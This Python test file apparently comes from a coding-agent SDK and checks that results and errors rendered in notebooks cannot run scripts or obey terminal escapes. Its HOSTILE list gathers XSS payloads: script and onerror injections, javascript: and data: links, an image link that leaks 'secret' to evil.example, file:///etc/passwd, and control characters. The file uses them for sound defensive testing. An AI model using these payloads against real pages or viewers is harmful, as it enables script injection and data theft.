"""What a notebook shows of a result, and that nobody's text in it can do anything."""

from __future__ import annotations

import json

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from coding_agent_sdk import AgentError, Result, ToolCall, Usage
from coding_agent_sdk.text.html import html_of
from coding_agent_sdk.text.markdown import markdown_of, tame
from coding_agent_sdk.text.page import ANSWER_LIMIT, BODY_LIMIT, ITEMS_LIMIT, Page, Section
from coding_agent_sdk.types.decisions import ApprovalRequest
from coding_agent_sdk.types.pages import question_item
from coding_agent_sdk.types.requests import FinishedCall

from .conftest import _result_with as build
from .reading import Reader

HOSTILE = [
    "<script>alert(1)</script>",
    "</script></pre></code></details></div><img src=x onerror=alert(1)>",
    "<!-- --><style>*{display:none}</style><iframe src=//evil>",
    "[x](javascript:alert(1)) [x](JaVaScRiPt:alert(1)) [x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>) <javascript:alert(1)> [x](data:text/html;base64,PHM+)",
    "[x][y]\n\n[y]: javascript:alert(1) 'title'",
    "[x][y]\n\n[y]:\n  javascript:alert(1)",
    "![x](https://evil.example/?q=secret) ![x][r]\n\n[r]: https://evil.example/b.png",
    "[x](/api/shutdown) [x](../../files/a) [x](//evil.example) [x](file:///etc/passwd)",
    "[x](vbscript:x) [x](\x01javascript:alert(1)) [x](java\tscript:alert(1))",
    '[a" onmouseover="alert(1)](https://ok.example/"onmouseover="alert(1))',
    "```html\n<script>alert(1)</script>\n```\n<script>alert(2)</script>",
    '```" onclick="alert(1)\ncode',
    "> ```\n```\n<script>x</script>\n```\n<script>y</script>",
    "~~~\n```\n~~~\n<script>x</script>",
    "````\n```\n<b>in</b>\n````\n<script>out</script>",
    "`` ` <b>",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x07link\x1b]8;;\x07 \x00 \x9b",
    "\ud800 \udfff lone \u202e turned \u2066 \ufeff",
    "{style} {0} %s ${x} $\\href{javascript:alert(1)}{x}$",
    "&lt;script&gt; &#60;script&#62; &amp;lt;",
    "<a href='javascript:alert(1)'>\n\n<a\nhref=x>",
    "[\n" * 200,
    "|" * 500,
    "",
    " \n\t ",
]  # fmt: skip


@pytest.mark.parametrize("text", HOSTILE)
def test_no_text_can_run_load_or_lead_anywhere_but_to_the_web(text):
    html = build(text)._repr_mimebundle_()["text/html"]
    reader = Reader(html)
    assert "\x1b" not in html
    assert "\0" not in html
    assert all("onmouseover" not in link or "%22" in link for link in reader.links)
    json.dumps(html).encode("utf-8")
    html.encode("utf-8")


@pytest.mark.parametrize("text", HOSTILE)
def test_the_markdown_of_a_result_is_harmless_in_a_viewer_that_allows_html(text):
    markdown = build(text)._repr_mimebundle_()["text/markdown"]
    assert dangers(markdown) == []
    markdown.encode("utf-8")
    build(text)._repr_mimebundle_()["text/plain"].encode("utf-8")


def dangers(markdown):
    """Return what a viewer that follows CommonMark and trusts HTML would obey."""
    viewer = MarkdownIt("commonmark", {"html": True}).enable("table")
    viewer.validateLink = lambda _: True
    found = []
    for token in viewer.parse(markdown):
        for part in [token, *(token.children or [])]:
            if part.type in {"html_block", "html_inline", "image"}:
                found.append(part.content)
            address = str(part.attrGet("href") or "https://")
            if not address.lower().startswith(("http://", "https://", "mailto:")):
                found.append(address)
    return found


PIECES = st.one_of(
    st.text(max_size=8),
    st.sampled_from(
        ["<", ">", "<script>", "</div>", "[", "]", "](", "]:", "(", ")", "!", "![", "`"]
    ),
    st.sampled_from(["```", "~~~", "````", "\n", "\n\n", "> ", "- ", "    ", "1. ", "\t", "&#60;"]),
    st.sampled_from(
        ["javascript:", "data:", "https://a.example", "\\", '"', "'", " on=", "$", "|"]
    ),
)
TEXTS = st.lists(PIECES, max_size=25).map("".join)


@settings(max_examples=150)
@given(TEXTS)
def test_whatever_is_written_the_html_is_whole_and_harmless(text):
    Reader(build(text)._repr_mimebundle_(include=["text/html"])["text/html"])


@settings(max_examples=300)
@given(TEXTS)
def test_whatever_is_written_the_markdown_is_harmless(text):
    assert dangers(tame(text)) == []


@settings(max_examples=300)
@given(TEXTS)
def test_whatever_the_answer_leaves_open_what_follows_is_read_as_itself(text):
    markdown = f"{tame(text)}\n\nTHE-NEXT-PARAGRAPH"
    tokens = MarkdownIt("commonmark").parse(markdown)
    assert tokens[-2].type == "inline"
    assert tokens[-2].content.endswith("THE-NEXT-PARAGRAPH")


def test_an_answer_is_markdown_and_plain_code_stays_as_it_is():
    answer = "# Found\n\n- **one**\n- `two`\n\n```python\nx: list[int] = [1 < 2]\n```\n\n|a|b|\n|-|-|\n|1|2|"
    bundle = build("x", text=answer)._repr_mimebundle_()
    reader = Reader(bundle["text/html"])
    assert {"h1", "li", "strong", "code", "pre", "table", "td"} <= set(reader.tags)
    assert answer in bundle["text/markdown"]
    assert answer in bundle["text/plain"]


def test_lines_of_an_answer_stay_lines():
    assert Reader(build("x", text="a\nb")._repr_mimebundle_()["text/html"]).tags.count("br") == 1


def test_it_says_how_the_run_ended_and_what_it_took():
    reader = Reader(build("x")._repr_mimebundle_()["text/html"])
    for words in ("awaiting approval", "2 steps", "1,234 tokens", "$0.2500", "because x"):
        assert words in reader.text


def test_a_price_that_nobody_knows_is_not_shown_as_nothing():
    bundle = build("x", usage=Usage(cost=None, estimated=True, input_tokens=7), steps=1)
    for shown in bundle._repr_mimebundle_().values():
        assert "price unknown" in shown
        assert "about 7 tokens" in shown
        assert "1 step " in shown.replace("·", "").replace("</span>", " ")


def test_each_call_has_its_status_its_time_and_what_came_of_it():
    done = FinishedCall(
        call=ToolCall(id="1", name="run_cmd", arguments={"command": "pytest -q", "shell": True}),
        status="timeout",
        text="line one\nline two",
        seconds=1.5,
    )
    text = Reader(build("x", tool_calls=(done,))._repr_mimebundle_()["text/html"]).text
    assert 'run_cmd command="pytest -q" shell=true timeout 1.50 s' in text
    assert "command: pytest -q\nshell: true\n\nline one\nline two" in text


def test_an_edit_is_shown_as_what_goes_and_what_comes():
    call = ToolCall(id="1", name="edit_file", arguments={"path": "a.py", "old": "x\ny", "new": "z"})
    done = FinishedCall(call=call, status="ok", text="edited a.py at line 1")
    html = build("x", tool_calls=(done,), pending=())._repr_mimebundle_()["text/html"]
    for line in ("path: a.py", "-x", "-y", "+z", "edited a.py at line 1"):
        assert f">{line}</span>" in html


def test_a_waiting_call_shows_its_diff_and_the_way_to_answer_it():
    html = build('it\'s "x"')._repr_mimebundle_()["text/html"]
    reader = Reader(html)
    assert "Waiting for your approval (2)" in reader.text
    assert "nobody knows whether it took effect" in reader.text
    (line,) = [line for line in reader.text.splitlines() if "agent.resume(" in line]
    assert "await agent.resume('it\\'s \"x\"', {'it\\'s \"x\"': Approve()" in line
    compile(f"async def f():\n {line[: line.index(')})') + 3]}", "hint", "exec")


def test_a_diff_is_coloured_line_by_line(result_with):
    call = ToolCall(id="1", name="write_file", arguments={"path": "a"})
    from coding_agent_sdk import ApprovalRequest

    diff = "--- a\n+++ a\n@@ -1 +1,2 @@\n same\n-old\n+new\n"
    asked = ApprovalRequest(call=call, reason="it writes", preview=diff)
    html = result_with("x", pending=(asked,))._repr_mimebundle_()["text/html"]
    assert 'background:rgba(248,81,73,.22)">-old' in html
    assert 'background:rgba(46,160,67,.22)">+new' in html
    assert 'display:block"> same' in html


def test_empty_sections_and_an_answer_that_is_the_reason_are_left_out():
    bare = Result(text="too long", reason="too long", status="blocked", run_id="r", session="s")
    bundle = bare._repr_mimebundle_()
    assert "details" not in Reader(bundle["text/html"]).tags
    assert bundle["text/plain"].count("too long") == 1
    assert bundle["text/markdown"] == (
        "**blocked** · 0 steps · 0 tokens · $0.0000 · session s\n\ntoo long"
    )


# -- bounds ------------------------------------------------------------------------------------


@pytest.mark.parametrize("piece", ["x", "<", "[a](", "x\n", "\ud800"])
def test_five_megabytes_everywhere_come_to_little_and_it_says_what_was_left_out(piece):
    text = piece * (5_000_000 // len(piece))
    bundle = build(text)._repr_mimebundle_()
    Reader(bundle["text/html"])
    for shown in bundle.values():
        assert len(shown) < 2_000_000
    left_out = f"{len(text) - ANSWER_LIMIT:,} more characters are not shown"
    assert all(left_out in shown for shown in bundle.values())


def test_of_a_thousand_calls_the_first_are_shown_and_the_rest_is_counted():
    call = FinishedCall(call=ToolCall(id="1", name="f"), status="ok", text="y" * 2 * BODY_LIMIT)
    files = tuple(f"f{n}.py" for n in range(1000))
    bundle = build("x", tool_calls=(call,) * 1000, changed_files=files)._repr_mimebundle_()
    for shown in bundle.values():
        assert shown.count(f"{1000 - ITEMS_LIMIT} more are not shown") == 2
        assert "f59.py" in shown
        assert "f60.py" not in shown
    assert f"{BODY_LIMIT:,} more characters are not shown" in bundle["text/html"]


# -- the protocol ------------------------------------------------------------------------------


def test_only_the_forms_that_are_asked_for_are_made():
    result = build("x")
    assert list(result._repr_mimebundle_()) == ["text/html", "text/markdown", "text/plain"]
    assert list(result._repr_mimebundle_(include=["text/plain", "image/png"])) == ["text/plain"]
    assert "text/html" not in result._repr_mimebundle_(exclude={"text/html"})


def test_a_result_stays_a_value_with_a_repr_of_its_own():
    assert repr(build("x")).startswith("Result(text='x', status='awaiting_approval'")


# -- failures ----------------------------------------------------------------------------------


def failed(message="the model refuses <b>", *, result=None):
    try:
        try:
            {}["key"]
        except KeyError as cause:
            raise AgentError(message) from cause
    except AgentError as error:
        error.result = result
        return error


def test_an_error_is_a_few_lines_with_its_cause_and_the_way_to_the_rest():
    lines = failed()._render_traceback_()
    assert "raise AgentError(message) from cause" in lines[0]
    assert "KeyError: 'key'" in lines[1]
    assert "test_results.py:" in lines[1]
    assert lines[2].endswith("traceback.print_exception(sys.last_value)")
    assert lines[3] == "\x1b[1;31mAgentError\x1b[0m: the model refuses <b>"
    assert len(lines) == 4


def test_an_error_with_a_partial_result_says_where_it_is():
    assert any(".result" in line for line in failed(result=build("x"))._render_traceback_())


def test_an_error_never_raised_names_no_line():
    assert len(AgentError("x")._render_traceback_()) == 2


@pytest.mark.parametrize("text", HOSTILE)
def test_words_of_an_error_obey_no_terminal_and_no_browser(text):
    error = failed(text, result=build(text, status="failed"))
    *rest, last = error._render_traceback_()
    assert "\x1b" not in last.removeprefix("\x1b[1;31mAgentError\x1b[0m")
    assert "\x1b" not in "".join(rest)
    Reader(error._repr_mimebundle_()["text/html"])


def test_an_error_as_a_value_shows_what_there_is_of_the_run():
    result = build("as far as it came", status="failed")
    text = Reader(failed(result=result)._repr_mimebundle_()["text/html"]).text
    for words in ("AgentError", "the model refuses <b>", "as far as it came", "Caused by (1)"):
        assert words in text
    assert "AgentError" in failed()._repr_mimebundle_()["text/plain"]


def test_a_long_chain_of_causes_ends():
    error = failed()
    error.__cause__ = error
    assert len([line for line in error._render_traceback_() if "caused by" in line]) == 5
    assert len(failed("x" * 5_000_000)._render_traceback_()[-1]) < 5_000


# -- both ends ---------------------------------------------------------------------------------


def asked_page(arguments, *, preview="", whole=False):
    call = ToolCall(id="c", name="run_cmd", arguments=arguments)
    request = ApprovalRequest(call=call, reason="external", preview=preview)
    item = question_item(request, whole=whole)
    section = Section(title="Call", items=(item,), is_open=True)
    return Page(title="May this run?", tone="waiting", sections=(section,))


@pytest.mark.parametrize("form", [html_of, markdown_of])
@pytest.mark.parametrize(
    "arguments",
    [
        {"command": "echo BEGIN\n" + "# note\n" * 1300 + "echo END"},
        {"command": "echo BEGIN " + "x" * 9000 + " echo END"},
        {"command": "echo BEGIN" + " " * 9000 + "echo END", "cwd": ".", "other": "y" * 9000},
        {"old": "BEGIN" + "x\n" * 5000, "new": "y\n" * 5000 + "END"},
    ],
    ids=["lines", "one-line", "several", "replaces"],
)
def test_both_ends_of_what_would_run_are_shown_and_all_of_it_on_demand(form, arguments):
    shown = form(asked_page(arguments))
    assert "BEGIN" in shown
    assert "END" in shown
    assert "more characters are not shown" in shown
    assert len(shown) < 2 * BODY_LIMIT
    whole = form(asked_page(arguments, whole=True))
    assert "are not shown" not in whole
    assert len(whole) > 9000


@pytest.mark.parametrize("form", [html_of, markdown_of])
def test_both_ends_of_a_diff_are_shown_with_the_marks_of_their_lines(form):
    preview = "+BEGIN\n" + "".join(f"+line {n}\n" for n in range(3000)) + "+END"
    shown = form(asked_page({"path": "a.txt"}, preview=preview))
    assert "+BEGIN" in shown
    assert "+END" in shown
    assert "more characters are not shown" in shown
    assert all("line" not in row or row.count("+line") for row in shown.split("\n") if "+" in row)
    whole = form(asked_page({"path": "a.txt"}, preview=preview, whole=True))
    assert "path: a.txt" in whole
    assert "+line 1500" in whole
